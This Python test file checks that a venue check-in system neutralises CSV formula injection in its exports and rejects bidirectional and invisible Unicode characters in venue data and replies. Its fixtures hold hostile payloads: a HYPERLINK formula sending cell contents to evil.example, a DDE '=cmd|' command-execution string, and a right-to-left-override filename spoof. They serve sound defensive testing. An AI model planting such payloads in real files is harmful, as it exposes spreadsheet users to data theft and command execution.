"""Issue 21, items 3 and 7: CSV a spreadsheet cannot execute, and no
bidirectional or invisible formatting characters in venues or replies.

CsvTest registers venues whose names, addresses and wards are formulas
(=1+1, =HYPERLINK(...), =cmd|..., +, -, @, a leading TAB put straight into
the database since no door takes one), checks in at each, and reads the CSV
of /api/trace/venue, /api/trace/person, /api/reports/wards, /api/venues and
`checkinctl trace venue|person|report wards --format csv`: parsed back with
Python's csv module, no field starts with =, +, -, @, TAB or CR, and each
is the stored value with an apostrophe first when it would. Then LibreOffice
(Debian libreoffice-calc-nogui) opens each CSV headless and writes it out
again: every cell holds the literal text, nothing computed (=1+1 is not 2,
a HYPERLINK is not its label, +84912345678 is not the number 84912345678).

BidiTest knocks at every door that writes venues with U+202E and its kin
(checkinctl venue add, venue import, POST and PATCH /api/venues), and checks
that a venue name stored before the doors were shut, or a text a resident
sends, comes back with none of them in an SMS reply (check-in, check-out,
did-you-mean), on a USSD screen or in a stored answer.
"""

import csv
import io
import json
import os
import re
import shutil
import sqlite3
import subprocess
import tempfile
import time
import unittest
import urllib.parse

import harness
from harness import e164, group, iso

FORMULA = "=+-@\t\r"

# (name, address, ward): every one a formula or a number a spreadsheet reads.
HOSTILE = [
    ("=1+1", "=2+3", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Phường\")"),
    ("=HYPERLINK(\"http://evil.example/x\",\"Bấm vào đây\")", "+1+1", "+84 Hàng Bạc"),
    ("=cmd|' /C calc'!A0", "-2+3", "-Hàng Gai"),
    ("@SUM(1+1)", "@SUM(2+2)", "@Cửa Nam"),
    ("-1", "=1,2", "=\"quoted\"&\"x\""),
]
# Put in by hand: no door takes a control character.
TAB_NAME = "\t=7*6"
CR_ADDRESS = "\r=7*7"

RESIDENT = "0912000001"          # +84912000001: a "+" first in every CSV


def neutral(value):
    """What a stored value must read as in the CSV."""
    if value != "" and value[0] in FORMULA:
        return "'" + value
    return value


def read_csv(test, data, what):
    """UTF-8 with a BOM, RFC 4180: the header and the rows."""
    test.assertTrue(data.startswith(b"\xef\xbb\xbf"), "%s: no BOM: %r" % (what, data[:20]))
    rows = list(csv.reader(io.StringIO(data[3:].decode("utf-8"), newline="")))
    test.assertGreaterEqual(len(rows), 2, "%s: no rows: %r" % (what, data[:300]))
    for r in rows:
        test.assertEqual(len(r), len(rows[0]), "%s: ragged %r" % (what, r))
        for cell in r:
            test.assertFalse(cell != "" and cell[0] in FORMULA,
                             "%s: a spreadsheet would compute %r" % (what, cell))
    return rows[0], rows[1:]


NUMBER = re.compile(r"^[0-9]+(\.[0-9]+)?$")


class CsvTest(harness.AdminCase):

    def venues(self):
        self.code = []
        for name, address, ward in HOSTILE:
            self.code.append(self.d.add_venue(name, ward, address=address,
                                              owner="0987000001"))
        # A TAB and a CR first: only the database holds such, from before.
        self.code.append(self.d.add_venue("Tab", "Tab ward"))
        self.code.append(self.d.add_venue("Cr", "Cr ward"))
        con = sqlite3.connect(self.d.dbpath, timeout=harness.stretch(30))
        con.execute("UPDATE venues SET name = ? WHERE code = ?", (TAB_NAME, self.code[-2]))
        con.execute("UPDATE venues SET address = ? WHERE code = ?",
                    (CR_ADDRESS, self.code[-1]))
        con.commit()
        con.close()
        self.stored = [h for h in HOSTILE] + [(TAB_NAME, None, "Tab ward"),
                                              ("Cr", CR_ADDRESS, "Cr ward")]

    def setUp(self):
        super().setUp()
        for code in self.code:
            r = self.sms(RESIDENT, code)
            self.assertGreaterEqual(len(r), 1, r)
        self.assertEqual(self.d.count("checkins"), len(self.code))
        now = int(time.time())
        self.frm, self.to = iso(now - 7200), iso(now + 3600)

    def api(self, path, **params):
        params["format"] = "csv"
        st, h, b = self.d.admin_http("GET", path + "?" + urllib.parse.urlencode(params),
                                     who="admin1")
        self.assertEqual(st, 200, (path, b[:300]))
        self.assertIn("text/csv", h.get("content-type", ""))
        return b

    def ctl(self, *args):
        p = subprocess.run([self.d.checkinctl, "-d", self.d.dbpath] + list(args),
                           stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                           timeout=harness.stretch(30))
        self.assertEqual(p.returncode, 0, (args, p.stderr))
        return p.stdout

    def documents(self):
        """(what, CSV bytes) of every door that writes CSV."""
        docs = []
        for code in self.code:
            docs.append(("api trace venue %s" % code,
                         self.api("/api/trace/venue", code=code, **{"from": self.frm,
                                                                    "to": self.to})))
            docs.append(("ctl trace venue %s" % code,
                         self.ctl("trace", "venue", code, "--from", self.frm,
                                  "--to", self.to, "--format", "csv")))
        docs.append(("api trace person", self.api("/api/trace/person", number=RESIDENT,
                                                  **{"from": self.frm, "to": self.to})))
        docs.append(("ctl trace person", self.ctl("trace", "person", RESIDENT,
                                                  "--from", self.frm, "--to", self.to,
                                                  "--format", "csv")))
        docs.append(("api reports wards", self.api("/api/reports/wards",
                                                   **{"from": self.frm, "to": self.to})))
        docs.append(("ctl report wards", self.ctl("report", "wards", "--from", self.frm,
                                                  "--to", self.to, "--format", "csv")))
        docs.append(("api venues", self.api("/api/venues")))
        return docs

    def test_fields_neutralised(self):
        names = {neutral(n) for n, _, _ in self.stored}
        addresses = {neutral(a) for _, a, _ in self.stored if a is not None}
        wards = {neutral(w) for _, _, w in self.stored}
        seen = {"venue": set(), "address": set(), "ward": set(), "number": set()}
        for what, data in self.documents():
            head, rows = read_csv(self, data, what)
            for r in rows:
                row = dict(zip(head, r))
                for col, key in (("venue", "venue"), ("name", "venue"),
                                 ("address", "address"), ("ward", "ward"),
                                 ("number", "number"), ("owner", "number")):
                    if col in row and row[col] != "":
                        seen[key].add(row[col])
                # Counts stay plain numbers.
                for col in ("companions", "venues", "venues_used", "checkins",
                            "visitors", "flagged"):
                    if col in row:
                        self.assertRegex(row[col], r"^[0-9]+$", (what, col))
        self.assertEqual(names - seen["venue"], set(), seen["venue"])
        self.assertEqual(addresses - seen["address"], set(), seen["address"])
        self.assertEqual(wards - seen["ward"], set(), seen["ward"])
        self.assertEqual(seen["number"], {"'" + e164(RESIDENT), "'+84987000001"})

        # One document byte for byte: the venue trace of "=1+1".
        data = self.api("/api/trace/venue", code=self.code[0],
                        **{"from": self.frm, "to": self.to})
        line = data.split(b"\r\n")[1].decode("utf-8")
        self.assertTrue(line.startswith("'%s,0," % e164(RESIDENT)), line)
        self.assertTrue(line.endswith(",%s,'=1+1" % self.code[0]), line)

    def test_libreoffice_computes_nothing(self):
        soffice = shutil.which("libreoffice") or shutil.which("soffice")
        if soffice is None:
            self.skipTest("libreoffice missing (Debian libreoffice-calc-nogui; "
                          "scripts/deps --test installs it)")
        tmp = tempfile.mkdtemp(prefix="test-security-csv-lo.")
        self.addCleanup(shutil.rmtree, tmp, True)
        docs = self.documents()
        docs = [d for d in docs if not d[0].startswith("ctl trace venue")]
        paths = []
        for i, (what, data) in enumerate(docs):
            p = os.path.join(tmp, "in", "doc%02d.csv" % i)
            os.makedirs(os.path.dirname(p), exist_ok=True)
            with open(p, "wb") as f:
                f.write(data)
            paths.append(p)
        # Comma, double quote, UTF-8 (76), from line 1: what a clerk opening
        # the file gets; formulas evaluated as Calc does by default.
        argv = [soffice, "-env:UserInstallation=file://%s/profile" % tmp, "--headless",
                "--norestore", "--infilter=CSV:44,34,76,1",
                "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1",
                "--outdir", os.path.join(tmp, "out")] + paths
        p = subprocess.run(argv, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                           timeout=harness.stretch(300))
        self.assertEqual(p.returncode, 0, p.stderr)
        checked = 0
        for (what, data), path in zip(docs, paths):
            out = os.path.join(tmp, "out", os.path.basename(path))
            self.assertTrue(os.path.exists(out), "%s: no output; %s" % (what, p.stderr))
            with open(out, "rb") as f:
                got = list(csv.reader(io.StringIO(f.read().decode("utf-8-sig"),
                                                  newline="")))
            want = list(csv.reader(io.StringIO(data[3:].decode("utf-8"), newline="")))
            self.assertEqual(len(got), len(want), what)
            for gr, wr in zip(got, want):
                for g, w in zip(gr, wr):
                    if NUMBER.match(w):
                        self.assertEqual(float(g), float(w), (what, w, g))
                    else:
                        # Calc keeps a line break in a cell as LF.
                        w = w.replace("\r\n", "\n").replace("\r", "\n")
                        self.assertEqual(g, w, "%s: the spreadsheet made %r of %r"
                                         % (what, g, w))
                        checked += 1
        self.assertGreater(checked, 50)


IMPORT_HEAD = "name,address,ward,kind,owner_phone\n"

# (field, value with the character, the character)
BAD = [
    ("name", "Shop\u202egnp.exe", "U+202E"),
    ("name", "\u2066Phở\u2069", "U+2066"),
    ("address", "12 Hàng Bạc\u200f", "U+200F"),
    ("ward", "Hàng\u200bBạc", "U+200B"),
    ("ward", "Hàng\u061cGai", "U+061C"),
    ("district", "Hoàn\u2060Kiếm", "U+2060"),
    ("address", "5\ufeff Lò Sũ", "U+FEFF"),
    ("name", "Phở\u200dThìn", "U+200D"),
    ("kind", "shop\u00ad", "U+00AD"),
]


class BidiTest(harness.AdminCase):

    inbound = harness.USSD_INBOUND

    def venues(self):
        self.good = self.d.add_venue("Phở Thìn", "Hàng Bạc")
        self.check = self.d.add_venue("Chốt Long Biên", "Phúc Tân", kind="checkpoint")
        # A name stored before the doors were shut.
        self.old = self.d.add_venue("Cà phê Giảng", "Hàng Gai")
        con = sqlite3.connect(self.d.dbpath, timeout=harness.stretch(30))
        con.execute("UPDATE venues SET name = ?, ward = ? WHERE code = ?",
                    ("Cà phê\u202e Giảng\u200b", "Hàng\u2066 Gai", self.old))
        con.commit()
        con.close()

    def run_ctl(self, *args, stdin=None):
        p = subprocess.run([self.d.checkinctl, "-d", self.d.dbpath] + list(args),
                           input=stdin, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                           timeout=harness.stretch(30))
        return p.returncode, p.stdout.decode("utf-8"), p.stderr.decode("utf-8")

    def venue_count(self):
        return self.d.count("venues")

    def test_venue_add(self):
        n = self.venue_count()
        for field, value, char in BAD:
            args = ["venue", "add", "--name", "Quán", "--ward", "Hàng Bạc"]
            if field == "name":
                args[3] = value
            else:
                args += ["--" + field, value]
            rc, out, err = self.run_ctl(*args)
            self.assertNotEqual(rc, 0, (field, value, out))
            self.assertIn(field, err, (field, value))
            self.assertIn(char, err, (field, value))
            self.assertEqual(err.count("\n"), 1, err)
        self.assertEqual(self.venue_count(), n)

    def test_venue_import(self):
        n = self.venue_count()
        lines = [IMPORT_HEAD, "Quán Tốt,1 Hàng Bạc,Hàng Bạc,default,\n"]
        want = {}
        for field, value, char in BAD:
            if field == "district":
                continue        # the import has no district column
            row = {"name": "Quán", "address": "2 Hàng Bạc", "ward": "Hàng Bạc",
                   "kind": "default"}
            row[field] = value
            lines.append("%(name)s,%(address)s,%(ward)s,%(kind)s,\n" % row)
            want[len(lines)] = (field, char)
        lines.append("Quán Cuối,9 Hàng Gai,Hàng Gai,default,\n")
        rc, out, err = self.run_ctl("venue", "import", "-",
                                    stdin="".join(lines).encode("utf-8"))
        self.assertEqual(rc, 1, (out, err))
        bad = {}
        for m in re.finditer(r"(?m)^[^:\n]*:(\d+): (.*)$", err):
            bad[int(m.group(1))] = m.group(2)
        self.assertEqual(sorted(bad), sorted(want), err)
        for line, (field, char) in want.items():
            self.assertIn(field, bad[line], err)
            self.assertIn(char, bad[line], err)
        self.assertEqual(self.venue_count(), n + 2)
        names = {r[0] for r in self.d.query("SELECT name FROM venues")}
        self.assertIn("Quán Tốt", names)
        self.assertIn("Quán Cuối", names)

    def test_admin_api(self):
        n = self.venue_count()
        for field, value, char in BAD:
            body = {"name": "Quán", "ward": "Hàng Bạc"}
            body[field] = value
            st, h, b = self.d.admin_http("POST", "/api/venues", body=body, who="admin1")
            text = b.decode("utf-8", "replace")
            self.assertEqual(st, 400, (field, value, text))
            self.assertIn(field, text)
            self.assertIn(char, text)
            self.assertEqual(text.rstrip("\r\n").count("\n"), 0, text)
        self.assertEqual(self.venue_count(), n)
        for field, value, char in BAD:
            if field == "district":
                continue        # not changed by a PATCH
            st, h, b = self.d.admin_http("PATCH", "/api/venues/" + self.good,
                                         body={field: value}, who="admin1")
            text = b.decode("utf-8", "replace")
            self.assertEqual(st, 400, (field, value, text))
            self.assertIn(field, text)
            self.assertIn(char, text)
        row = self.d.query("SELECT name, address, ward, kind FROM venues WHERE code = ?",
                           (self.good,))[0]
        self.assertEqual(row[0], "Phở Thìn")
        self.assertEqual(row[2], "Hàng Bạc")
        # What has none is still taken.
        st, h, b = self.d.admin_http("POST", "/api/venues", who="admin1",
                                     body={"name": "Quán Mới", "ward": "Hàng Bạc"})
        self.assertIn(st, (200, 201), b)

    def assert_clean(self, replies):
        text = "".join(replies)
        for ch in text:
            self.assertFalse(0x2066 <= ord(ch) <= 0x2069 or 0x202a <= ord(ch) <= 0x202e
                             or ord(ch) in (0x200b, 0x200c, 0x200d, 0x200e, 0x200f,
                                            0x061c, 0xfeff, 0x2060),
                             "U+%04X in the reply %r" % (ord(ch), text))

    def test_old_name_in_replies(self):
        n = "0912000002"
        r = self.sms(n, self.old)
        self.assertGreaterEqual(len(r), 1, r)
        self.assert_clean(r)
        self.assertIn("Ca phe Giang", " ".join(r))
        self.assertIn("Gai", " ".join(r))
        r = self.sms(n, "RA")
        self.assert_clean(r)
        self.assertIn("Ca phe Giang", " ".join(r))
        # Did you mean: the name again, offered for a typo.
        bad = None
        for pos in range(7):
            cand = harness.typo(self.old, pos)
            near = [c for c in (self.good, self.check, self.old)
                    if c in harness._typos(cand)]
            if near == [self.old]:
                bad = cand
                break
        self.assertIsNotNone(bad)
        r = self.sms("0912000003", bad)
        self.assertIn(group(self.old), " ".join(r))
        self.assert_clean(r)
        self.assertIn("Ca phe Giang", " ".join(r))

    def test_old_name_on_ussd_screen(self):
        sid = "sec-%d" % os.getpid()
        screens = []
        for text in ("", "1", "1*" + self.old):
            st, h, body = harness.ussd_at_post(self.d, sid, "+84912000005", text)
            self.assertEqual(st, 200, body)
            screens.append(body)
        self.assert_clean(screens)
        self.assertIn("Ca phe Giang", screens[-1])

    def test_resident_text(self):
        n = "0912000004"
        r = self.sms(n, "\u202e" + self.check + "\u200b")
        self.assertGreaterEqual(len(r), 1, r)
        self.assertEqual(self.d.count("checkins", "number = ?", (e164(n),)), 1)
        self.assert_clean(r)
        # The checkpoint asks the route as text: the answer is kept without them.
        r = self.sms(n, "Từ \u202eHải Phòng\u2069 về")
        self.assert_clean(r)
        answers = [a for (a,) in self.d.query("SELECT answer FROM answers")]
        self.assertEqual(answers, ["Từ Hải Phòng về"])


if __name__ == "__main__":
    harness.main(600)
